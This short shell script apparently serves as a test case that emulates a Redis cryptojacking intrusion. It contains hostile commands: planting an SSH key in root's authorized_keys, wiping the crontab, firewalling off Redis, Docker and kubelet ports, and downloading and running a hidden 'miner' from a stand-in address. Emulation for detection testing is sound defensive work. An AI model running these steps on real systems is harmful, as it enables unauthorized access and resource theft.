#!/bin/sh
. /opt/case/case.sh

redis-server --port 6379 --save '' --dir /srv >/dev/null & server=$!
sleep 1
redis-cli config set requirepass bait-own >/dev/null
nft add table inet r; nft add chain inet r i '{ type filter hook input priority 0; }'
nft add rule inet r i tcp dport '{ 6379, 2375, 10250 }' ip saddr != 127.0.0.1 drop
mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAbait x' >/root/.ssh/authorized_keys && crontab -r 2>/dev/null || true
curl -s -o /tmp/.m http://203.0.113.10/programs/miner && chmod +x /tmp/.m && /tmp/.m >/tmp/.o 2>&1
grep -q job_id /tmp/.o
kill $server
took_place
